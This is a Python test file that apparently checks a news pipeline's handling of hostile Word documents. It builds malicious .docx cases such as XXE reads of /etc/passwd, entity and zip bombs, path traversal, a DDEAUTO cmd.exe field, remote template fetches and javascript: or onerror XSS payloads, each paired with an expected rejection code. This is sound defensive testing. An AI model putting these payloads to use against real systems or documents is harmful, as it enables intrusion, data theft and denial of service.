"""Word documents: programs, files within files, fields that reach out, bombs, code in every place."""

from __future__ import annotations

import io
import zipfile

from tests.hostile.attacks import CALL, HOST, SCRIPT, case, later, md
from tests.pipeline import word_files
from tests.pipeline.word_files import HEAD, W, add_link, add_picture, saved, with_parts

TEXT = SCRIPT.replace("<", "&lt;")
RELS = "word/_rels/document.xml.rels"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def document(head=HEAD):
    """In order but for what a case adds."""
    made = word_files.document(head)
    made.add_paragraph("Nội dung của tin.")
    return made


def with_body(xml):
    """The text ends in this WordprocessingML."""
    end = b"<w:sectPr"
    return with_parts(saved(document()), {"word/document.xml": lambda old: old.replace(end, xml.encode() + end, 1)})


def run(inner):
    return f"<w:p><w:r>{inner}</w:r></w:p>"


def field(code, shown="chữ"):
    parts = (
        "begin",
        f"</w:r><w:r><w:instrText>{code}</w:instrText></w:r><w:r>",
        "separate",
        f"</w:r><w:r><w:t>{shown}</w:t></w:r><w:r>",
        "end",
    )
    return run("".join(part if part.startswith("<") else f'<w:fldChar w:fldCharType="{part}"/>' for part in parts))


def related(kind, target, inner="", mode="External"):
    """A document with one more relationship rId99, and what uses it."""
    row = f'<Relationship Id="rId99" Type="{kind if ":" in kind else f"{REL}/{kind}"}" Target="{target}" TargetMode="{mode}"/>'
    return with_parts(
        with_body(inner), {RELS: lambda old: old.replace(b"</Relationships>", row.encode() + b"</Relationships>")}
    )


def made(change):
    one = document()
    change(one)
    return saved(one)


def bomb(entities):
    return f'<?xml version="1.0"?><!DOCTYPE x [{entities}]><w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&i;</w:t></w:r></w:p></w:body></w:document>'


LAUGHS = '<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
R = f'xmlns:r="{REL}"'
V = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
GOOD = saved(document())
WORDS = {
    "good": (lambda: made(lambda one: one.add_paragraph("Nội dung của tin.")), "publish", "review"), "text-script": (lambda: made(lambda one: one.add_paragraph(SCRIPT)),), "heading-script": (lambda: made(lambda one: one.add_heading(SCRIPT, 2)),),
    "table-script": (lambda: made(lambda one: one.add_table(2, 2).cell(0, 0).paragraphs[0].add_run(SCRIPT)),), "markdown-link": (lambda: made(lambda one: one.add_paragraph(f"[bấm](javascript:{CALL}) ![x](javascript:{CALL}) <javascript:{CALL}>")),),
    "markdown-html": (lambda: made(lambda one: one.add_paragraph(f"<img src=x onerror={CALL}>")),), "link-js": (lambda: made(lambda one: add_link(one.add_paragraph("x "), "bấm", f"javascript:{CALL}")), "LINK001"), "link-file": (lambda: made(lambda one: add_link(one.add_paragraph("x "), "bấm", "file:///etc/passwd")), "LINK001"),
    "link-unc": (lambda: made(lambda one: add_link(one.add_paragraph("x "), "bấm", f"\\\\{HOST}\\a")),), "link-quote": (lambda: made(lambda one: add_link(one.add_paragraph("x "), "bấm", f'https://hanoi.gov.vn/"onclick={CALL}')),), "link-text": (lambda: made(lambda one: add_link(one.add_paragraph("x "), f"](javascript:{CALL})", "https://hanoi.gov.vn")),),
    "alt-script": (lambda: made(lambda one: add_picture(one, f'"><img src=x onerror={CALL}>')),), "alt-markdown": (lambda: made(lambda one: add_picture(one, f"x](javascript:{CALL})![y")),), "title-script": (lambda: saved(document(HEAD | {"Tiêu đề": SCRIPT})),), "summary-bidi": (lambda: saved(document(HEAD | {"Tóm tắt": "Hồ sơ \u202egpj.exe"})), "TXT003"),
    "cover-path": (lambda: saved(document(HEAD | {"Ảnh bìa": "../../ngoai.jpg", "Mô tả ảnh bìa": "x"})), "reject"), "macros": (lambda: with_parts(GOOD, {"word/vbaProject.bin": b"x"}), "WORD002"), "macro-type": (lambda: with_parts(GOOD, {"[Content_Types].xml": lambda old: old.replace(b"document.main", b"document.macroEnabled.main")}), "reject"),
    "activex": (lambda: with_parts(GOOD, {"word/activeX/activeX1.bin": b"x"}), "WORD002"), "ole": (lambda: with_body(run(f'<w:object {V}><v:shape/><o:OLEObject Type="Embed" ProgID="Package" r:id="rId99" {R}/></w:object>')), "WORD008"), "ole-package": (lambda: with_parts(GOOD, {"word/embeddings/oleObject1.bin": b"MZ" * 999}),),
    "template": (lambda: with_parts(GOOD, {"word/_rels/settings.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/attachedTemplate" Target="https://{HOST}/a.dotm" TargetMode="External"/></Relationships>'}),),
    "altchunk": (lambda: related("aFChunk", "a.html", f'<w:altChunk r:id="rId99" {R}/>', "Internal"), "WORD008"), "altchunk-html": (lambda: with_parts(related("aFChunk", "a.html", f'<w:altChunk r:id="rId99" {R}/>', "Internal"), {"word/a.html": SCRIPT}), "WORD008"),
    "includepicture": (lambda: with_body(field(f'INCLUDEPICTURE "https://{HOST}/a.png" \\d')),), "includetext": (lambda: with_body(field('INCLUDETEXT "/etc/passwd"')),), "dde": (lambda: with_body(field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')),), "hyperlink-js": (lambda: with_body(field(f'HYPERLINK "javascript:{CALL}"')),),
    "hyperlink-quote": (lambda: with_body(field(f'HYPERLINK "https://hanoi.gov.vn/&quot;onclick={CALL}"')),), "simple-field": (lambda: with_body(f'<w:p><w:fldSimple w:instr="HYPERLINK &quot;javascript:{CALL}&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'),), "macrobutton": (lambda: with_body(field("MACROBUTTON AutoOpen bấm")),),
    "linked-picture": (lambda: related("image", f"https://{HOST}/a.png", f'<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" {R} r:link="rId99"/></w:drawing></w:r></w:p>'), "WORD010"),
    "picture-outside": (lambda: related("image", "../../../../etc/passwd", f'<w:p><w:r><w:pict><v:shape {V}><v:imagedata r:id="rId99" {R}/></v:shape></w:pict></w:r></w:p>', "Internal"),), "laughs": (lambda: with_parts(GOOD, {"word/document.xml": bomb(LAUGHS)}), "WORD005"), "laughs-utf16": (lambda: with_parts(GOOD, {"word/document.xml": bomb(LAUGHS).encode("utf-16")}), "WORD005", "WORD003"),
    "xxe": (lambda: with_parts(GOOD, {"word/document.xml": bomb('<!ENTITY i SYSTEM "file:///etc/passwd">')}), "WORD005"), "xxe-styles": (lambda: with_parts(GOOD, {"word/styles.xml": bomb('<!ENTITY i SYSTEM "file:///etc/passwd">')}), "WORD005"), "xxe-core": (lambda: with_parts(GOOD, {"docProps/core.xml": bomb('<!ENTITY i SYSTEM "file:///etc/passwd">')}), "WORD005"),
    "xinclude": (lambda: with_body('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),), "traversal": (lambda: with_parts(GOOD, {"../../../etc/cron.d/x": b"x"}), "WORD005"), "absolute": (lambda: with_parts(GOOD, {"/etc/passwd": b"x"}), "WORD005"), "zip-bomb": (lambda: with_parts(GOOD, {"word/media/a.png": bytes(59_000_000)}), "WORD005"),
    "picture-bomb": (lambda: made(lambda one: add_picture(one, "Quang cảnh")), "publish", "review", "reject"), "members": (lambda: with_parts(GOOD, {f"word/{n}.xml": b"<a/>" for n in range(1_200)}), "WORD005"), "deep": (lambda: with_body("<w:sdt><w:sdtContent>" * 2_000 + "</w:sdtContent></w:sdt>" * 2_000), "WORD005"), "elements": (lambda: with_body("<w:p/>" * 60_000), "WORD006"),
    "styles": (lambda: with_parts(GOOD, {"word/styles.xml": f'<w:styles xmlns:w="{W}">' + "".join(f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{n + 1}"/></w:style>' for n in range(14_000)) + "</w:styles>"}),), "style-loop": (lambda: with_parts(GOOD, {"word/styles.xml": f'<w:styles xmlns:w="{W}"><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>'}),),
    "attributes": (lambda: with_body(f'<w:p w:x="{"a" * 2_000_000}"/>'),), "long-run": (lambda: made(lambda one: one.add_paragraph("chữ " * 60_000)),), "long-word": (lambda: made(lambda one: one.add_paragraph("a" * 250_000)),), "notes": (lambda: with_body("".join(run(f'<w:footnoteReference w:id="{n}"/>') for n in range(2_000))),),
    "wide-cell": (lambda: with_body('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc><w:tc><w:p/></w:tc></w:tr></w:tbl>'),), "table-rows": (lambda: made(lambda one: one.add_table(700, 6)),), "tables-nested": (lambda: with_body("<w:tbl><w:tr><w:tc>" * 20 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 20),),
    "list-levels": (lambda: with_body("".join(f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{n}"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>x</w:t></w:r></w:p>' for n in (0, 8, 9, 99, -1, 10**12))),), "list-words": (lambda: with_body('<w:p><w:pPr><w:numPr><w:ilvl w:val="x"/><w:numId w:val=""/></w:numPr></w:pPr><w:r><w:t>x</w:t></w:r></w:p>'),),
    "nul": (lambda: with_body(run("<w:t>a</w:t>") + "\0"), "WORD003"), "control": (lambda: with_body(run("<w:t>a&#1;b</w:t>")), "WORD003"), "surrogate": (lambda: with_body(run("<w:t>&#xD800;</w:t>")), "WORD003"), "no-space": (lambda: with_parts(GOOD, {"word/document.xml": b"<document><body><p><r><t>x</t></r></p></body></document>"}),),
    "other-encoding": (lambda: with_parts(GOOD, {"word/document.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>'}), "WORD003"), "picture-exe": (lambda: with_parts(made(lambda one: add_picture(one, "Quang cảnh")), {"word/media/image1.png": b"MZ" + bytes(999)}), "WORD007"), "picture-svg": (lambda: with_parts(made(lambda one: add_picture(one, "Quang cảnh")), {"word/media/image1.png": f"<svg onload={CALL}/>"}), "WORD007"),
    "picture-emf": (lambda: with_parts(made(lambda one: add_picture(one, "Quang cảnh")), {"word/media/image1.png": b"\1\0\0\0\x6c\0\0\0" + bytes(32) + b" EMF" + bytes(90)}), "WORD007"), "comments": (lambda: with_body(run('<w:t>x</w:t><w:commentReference w:id="0"/>')),), "hidden": (lambda: with_body(run("<w:rPr><w:vanish/></w:rPr><w:t>TUYỆT MẬT</w:t>")), "WORD015", "SAFE001"), "textbox": (lambda: with_body(f'<w:p><w:r><w:pict {V}><v:shape><v:textbox><w:txbxContent><w:p><w:r><w:t>TỐI MẬT</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>'), "SAFE001", "WORD015"),
    "header-secret": (lambda: made(lambda one: setattr(one.sections[0].header.paragraphs[0], "text", "TUYỆT MẬT")), "SAFE001"), "cut": (GOOD[: len(GOOD) * 2 // 3], "WORD003"), "empty-zip": (b"PK\5\6" + bytes(18), "WORD003"), "old": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(999), "WORD001"), "26-mb": (GOOD + bytes(27_000_000), "WORD006"),
    "html": (SCRIPT.encode() * 99, "WORD003"), "zeros": (bytes(999), "FILE001"), "javascript-property": (lambda: with_parts(GOOD, {"docProps/core.xml": f'<cp:coreProperties xmlns:cp="x" xmlns:dc="y"><dc:title>{TEXT}</dc:title><dc:creator>{TEXT}</dc:creator></cp:coreProperties>'}),), "rtl": (lambda: with_body(run("<w:rPr><w:rtl/></w:rPr><w:t>\u202eabc</w:t>")), "TXT003"), "tcvn3": (lambda: made(lambda one: one.add_paragraph("Thñ tôc hµnh chÝnh t¹i ph\xadêng")), "TXT001"),
}  # fmt: skip
for name, (data, *codes) in WORDS.items():
    case(f"word/{name}", {"tin.docx": later(data)}, *codes)


def nested():
    """A zip in a zip in a zip, ten each."""
    data = bytes(1_000_000)
    for _level in range(4):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(10):
                archive.writestr(f"{number}.zip", data)
        data = buffer.getvalue()
    return data


case("word/zip-of-zips", {"tin.docx": later(nested)}, "WORD003")
case("word/two", {"goi/a.docx": GOOD, "goi/b.docx": GOOD})
case("word/bundle-script-name", {"goi/index.md": md(), f"goi/x' onclick={CALL}.docx": GOOD})
